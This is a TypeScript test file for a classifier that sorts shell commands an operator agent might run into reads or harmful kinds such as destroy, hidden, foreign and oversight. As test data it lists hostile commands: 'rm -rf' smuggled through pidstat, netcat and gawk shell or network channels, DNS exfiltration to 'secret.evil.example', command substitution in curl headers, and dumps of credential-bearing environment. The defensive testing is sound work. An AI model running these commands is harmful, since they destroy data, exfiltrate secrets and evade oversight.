// What an honest person looks with, each tool beside the words with which it does something else.
import { expect, test } from "bun:test";
import type { EffectKind } from "../../src/domain/effect.ts";
import { KNOWLEDGE, worstOf } from "./worst-effect.ts";

interface Tool {
  readonly name: string;
  readonly looks: readonly string[];
  readonly others: readonly (readonly [EffectKind, string])[];
}

const TOOLS: readonly Tool[] = [
  {
    name: "xxd",
    looks: ["xxd -l 64 /data/x", "xxd -s 10 -l 64 -c 16 /data/x", "xxd -p /data/x | head"],
    others: [
      ["destroy", "xxd /data/x /data/y"],
      ["destroy", "xxd -l 64 /data/x +y"],
      ["destroy", "xxd -r /tmp/a"],
    ],
  },
  {
    name: "uniq",
    looks: ["uniq -f 1 /tmp/x", "uniq -c", "sort /tmp/x | uniq -d -w 5"],
    others: [
      ["destroy", "uniq -f 1 /tmp/x /data/y"],
      ["destroy", "uniq /etc/hosts +x"],
    ],
  },
  {
    name: "tree, base64 and the samplers",
    looks: ["tree -L 2 /var/log", "base64 -w0 /tmp/x", "sar -u 1 3", "pidstat -d 1 2", "date +%s"],
    others: [
      ["destroy", "tree -R -L 1 -H . /etc"],
      ["destroy", "base64 -i /tmp/x -o /data/y"],
      ["destroy", "sar -o /data/x 1 3"],
      ["hidden", "pidstat -e rm -rf /data"],
      ["hidden", "tcpdump -i lo -z /tmp/x"],
    ],
  },
  {
    name: "archives",
    looks: ["gzip -dc /var/log/x.gz | head", "zstd -dc /tmp/x.zst", "unzip -l /tmp/x.zip"],
    others: [
      ["destroy", "gzip -d /data/x.gz"],
      ["destroy", "zstd -dc /tmp/x -o /data/y"],
      ["destroy", "unzip -l /tmp/x.zip -d /data"],
      ["destroy", "unzip -o /tmp/x.zip -d /data"],
    ],
  },
  {
    name: "ps",
    looks: [
      ...["ps -ef --forest", "ps --pid 4321 -o pid,args", "ps axo etime", "ps -eo pid,comm"],
      ...["ps", "ps -eLf", "ps aux --sort=-rss", "ps -u redis -o pid,args", "ps auxww", "ps -fp 1"],
      ...[
        "ps -C tikv-server -o pid=,etime=",
        'ps -o stat= -p "$x"',
        "docker top tikv1 -eo pid,args",
      ],
    ],
    others: [
      ["oversight", "ps ax --forest e"],
      ["oversight", "ps --headers e"],
      ["oversight", "ps -E"],
      ["oversight", "ps -u root e"],
      ["oversight", "ps -uroot e"],
      ["oversight", "ps -eaux"],
      ["oversight", "ps -aux -e"],
      ["oversight", "ps -eT --forest"],
      ["oversight", "ps -efo args -T"],
      ["oversight", "ps -U root -ef -o args"],
      ["oversight", "ps axOt e"],
      ["oversight", "docker top tikv1 'e ww'"],
      ["oversight", "docker top tikv1 -uroot e"],
      ["oversight", "gcore 4321"],
    ],
  },
  {
    name: "kill",
    looks: ["kill -0 4321", "kill -s 0 4321 4322", "kill -l 9"],
    others: [
      ["oversight", "kill -s 0 -s KILL 4321"],
      ["oversight", "kill -0 -n 9 4321"],
      ["oversight", "kill -0 -sKILL 4321"],
      // The sandbox's own processes have these numbers there.
      ["unknown", "/bin/kill -0 4321"],
      ["unknown", "sh -c 'kill -0 4321'"],
      ["unknown", "command kill -0 4321"],
    ],
  },
  {
    name: "etcdctl",
    looks: ["etcdctl alarm list", "etcdctl endpoint status -w table --cluster"],
    others: [
      ["unknown", "etcdctl --endpoints 127.0.0.1:2379 alarm disarm"],
      ["unknown", "etcdctl defrag --command-timeout 60s"],
      ["hidden", "etcdctl defrag --cluster"],
      ["destroy", "etcdctl compaction 5"],
    ],
  },
  {
    name: "questions to the network",
    looks: ["dig +short localhost", "nslookup localhost", "ping -c 1 ::1", "nc -zv 127.0.0.1 2379"],
    others: [
      ["foreign", "echo secret.evil.example | nslookup"],
      ["foreign", "nslookup -"],
      ["foreign", "dig -f - localhost"],
      ["foreign", "dig +trace localhost"],
      ["foreign", "whois localhost"],
      ["foreign", "nc -zv 10.9.9.9 2379"],
      ["foreign", "nc -z -w 2 127.0.0.1 22"],
      ["hidden", "nc 127.0.0.1 2379"],
      ["hidden", "nc -ze /bin/sh 127.0.0.1 2379"],
    ],
  },
  {
    name: "traffic",
    looks: ["ip -br addr", "ip link show lo", "conntrack -L -p tcp", "nft list ruleset"],
    others: [
      ["interrupt", "ip l s lo down"],
      ["interrupt", "ip -4 link s dev lo down"],
      ["foreign", "conntrack -L -z"],
      ["foreign", "nft list ruleset -f x"],
      ["foreign", "iptables-legacy -F"],
      ["foreign", "iptables -D INPUT -p tcp ! --dport 2379 -j DROP"],
      ["foreign", "iptables -D INPUT -p tcp --dport 2379 -s 10.9.9.9 -j DROP"],
      ["foreign", "iptables -D INPUT -s 127.0.0.1 -m x --modprobe=/sbin/poweroff -j DROP"],
      ["network", "iptables -D INPUT -p tcp -m tcp --dport 2379 -j DROP"],
    ],
  },
  {
    name: "the machine",
    looks: ["sysctl -n vm.swappiness", "timedatectl", "hostnamectl status", "chronyc tracking"],
    others: [
      ["foreign", "sysctl -w vm.swappiness=1"],
      // Beside others they show keys of the machine.
      ["foreign", "sysctl -a"],
      ["foreign", "sysctl net.ipv4"],
      ["foreign", "sysctl net.ipv6.conf.eth0"],
      ["foreign", "sysctl -n net.ipv4.tcp_fastopen_key"],
      ["foreign", "sysctl vm.swappiness net.ipv6.conf.br-1a.stable_secret"],
      ["read", "sysctl -en net.ipv4.tcp_fin_timeout net.ipv4.conf.br-1a.rp_filter"],
      ["foreign", "timedatectl set-time 2020-01-01"],
      ["foreign", "ulimit -n 1"],
      ["foreign", "fsfreeze -f /data"],
      ["read", "dpkg -l"],
      ["foreign", "dpkg -i /tmp/x.deb"],
    ],
  },
  {
    name: "what members are made of",
    looks: [
      "pd-ctl scheduler show --status paused",
      "pd-ctl -u http://127.0.0.1:2379 store",
      "redis-check-aof /data/x",
      "etcdctl --endpoints=http://127.0.0.1:2379 member list",
    ],
    others: [
      ["hidden", "pd-ctl config placement-rules show --out=/etc/cron.d/x"],
      ["hidden", "pd-ctl config placement-rules show --out /etc/cron.d/x"],
      ["hidden", "pd-ctl region --in=/tmp/x"],
      ["foreign", "ss -F /tmp/x"],
      ["destroy", "redis-check-aof --fix /data/x"],
      ["destroy", "etcdctl member remove x"],
      ["foreign", "etcdctl --endpoints=http://10.9.9.9:2379 endpoint health"],
      ["destroy", "pd-recover -endpoints x"],
      ["hidden", "pd-server --force-new-cluster"],
      ["hidden", "redis-server --port 7777"],
    ],
  },
  {
    name: "docker",
    looks: ["docker inspect tikv1", "docker inspect -f '{{.State.Status}}' tikv1"],
    others: [
      ["oversight", "docker inspect -f '{{.Config.Env}}' tikv1"],
      ["oversight", "docker inspect --format '{{json .Config}}' tikv1"],
      ["oversight", "docker compose config"],
      ["foreign", "docker inspect nginx"],
      ["read", "docker inspect --format '{{.State.Status}}' nginx"],
      ["hidden", "docker start -a tikv1"],
      ["hidden", "docker start --attach tikv1"],
    ],
  },
  {
    name: "curl",
    looks: [
      "curl -H 'Accept: application/json' http://127.0.0.1:2379/health",
      "curl -q -sS -D - -o /dev/null http://127.0.0.1:2379/health",
      'curl -s "http://127.0.0.1:2379/pd/api/v1/store/$id"',
      "curl --version",
    ],
    others: [
      ["hidden", 'curl -H "Ho$(echo st): x" http://127.0.0.1:2379/'],
      ["hidden", 'curl -H "X: $(cat /tmp/x)" http://127.0.0.1:6380/'],
      ["hidden", 'curl -w "%out$(echo put){/data/x}" http://127.0.0.1:2379/'],
      ["hidden", 'curl -A "x$(cat /tmp/x)" http://127.0.0.1:6380/'],
      ["hidden", "curl -H 'X-HTTP-Method: DELETE' http://127.0.0.1:2379/pd/api/v1/store/1"],
      ["hidden", "curl -H 'Content-Length: 100' http://127.0.0.1:2379/"],
      ["hidden", "curl -G -d @/etc/hosts http://127.0.0.1:2379/"],
      ["hidden", "curl -G --data-urlencode a@/etc/hosts http://127.0.0.1:2379/"],
      ["hidden", "curl -L http://127.0.0.1:2379/health"],
      ["destroy", "curl -D /data/x http://127.0.0.1:2379/health"],
    ],
  },
  {
    name: "awk",
    looks: ["awk '{print $1}' /etc/hosts"],
    others: [["hidden", "gawk 1 /inet/tcp/0/10.0.0.1/80"]],
  },
  {
    name: "systemctl",
    looks: [
      "systemctl status tikv1 -l -n 5",
      "systemctl --failed",
      "systemctl show -p ActiveState,MainPID tikv1",
      "systemctl show --property=ExecMainStatus -pMemoryCurrent,ActiveEnterTimestamp tikv1",
    ],
    others: [
      ["destroy", "systemctl clean tikv1"],
      ["oversight", "systemctl show tikv1"],
      ["oversight", "systemctl show -p Environment tikv1"],
      ["oversight", "systemctl show -p ActiveState,SetCredential tikv1"],
      ["oversight", "systemctl show -p ActiveState -p LoadCredential tikv1"],
      ["oversight", "systemctl show --property=ExecStart tikv1"],
      ["oversight", "systemctl cat operator-agent"],
      ["hidden", "systemctl status --hos=root@10.0.0.1 tikv1"],
      ["hidden", "systemctl x y z --hos=root@10.0.0.1"],
      ["hidden", "systemctl try-this tikv1"],
      ["hidden", "systemctl reset-failed tikv1 -aH root@10.0.0.1"],
      ["foreign", "systemctl enable tikv1 tikv2 -qM container"],
      ["foreign", "systemctl reset-failed"],
      ["start", "systemctl reset-failed tikv1"],
      ["hidden", "systemctl --failed reboot"],
      ["hidden", "systemctl -q --failed stop tikv1"],
      ["hidden", "service reboot --failed"],
      ["hidden", "service ../../usr/bin/killall is-active tikv-server"],
      ["hidden", "service tikv1 is-active stop"],
      ["hidden", "systemctl is-active -qH root@10.0.0.1 tikv1"],
      ["hidden", "systemctl show -p ActiveState -P Environment tikv1"],
      ["hidden", "systemctl show -p ActiveState --prop=Environment tikv1"],
    ],
  },
  {
    name: "logs and sockets",
    looks: [
      "journalctl -u tikv1 -n 50 --no-pager --since '10 min ago'",
      "journalctl -xeu tikv1",
      "lsof -i :2379 -n -P",
      "lsof -i TCP@127.0.0.1:2379",
      "ss -tn dst 127.0.0.1:2379",
    ],
    others: [
      ["destroy", "journalctl --vacuum-time=1s"],
      ["hidden", "journalctl --smart-relinquish-var"],
      ["hidden", "journalctl --image=/tmp/x"],
      ["foreign", "lsof -i @secret.evil.example"],
      ["foreign", "ss dst secret.evil.example"],
    ],
  },
  {
    name: "questions that hold their answerer up",
    looks: [
      ...["redis-cli -p 6380 --scan --count 100", "redis-cli -p 6380 -r 5 -i 1 info"],
      ...["redis-cli --version", "redis-cli -p 6380 -3 ping", "redis-cli -t 2 -p 6380 ping"],
    ],
    others: [
      ["unknown", "redis-cli -p 6380 scan 0 count 1000000000"],
      ["unknown", "redis-cli -p 6380 --scan --count 1000000000"],
      ["hidden", "redis-cli -p 6380 -r -1 get a"],
      ["unknown", "redis-cli -p 6380 memory usage a samples 0"],
      ["unknown", "tikv-ctl --data-dir /data raft region -r 1"],
      ["unknown", "tikv-ctl --config /x size -r 1"],
    ],
  },
];

const HERE = { ...KNOWLEDGE, ports: [2379, 6380] };

for (const { name, looks, others } of TOOLS) {
  const knowledge = name === "docker" || name === "systemctl" ? KNOWLEDGE : HERE;
  test(`${name}: looks are reads`, () => {
    expect(looks.filter((command) => worstOf(command, knowledge) !== "read")).toEqual([]);
  });
  for (const [kind, command] of others) {
    test(`${name}: ${JSON.stringify(command)} is ${kind}`, () => {
      expect(worstOf(command, knowledge)).toBe(kind);
    });
  }
}

test("an option that is a verb stands alone: what follows might be another mode", () => {
  const lines = [
    "echo FLUSHALL | redis-cli -p 6380 --scan --scan --scan --pipe",
    "redis-cli -p 6380 --scan --stat --bigkeys --rdb /etc/passwd",
    "redis-cli -p 6380 --stat --scan",
  ];
  expect(lines.map((line) => worstOf(line))).toEqual(["hidden", "hidden", "hidden"]);
  expect(worstOf("redis-cli -p 6380 --scan --pattern 'limit:*' | head")).toBe("read");
});
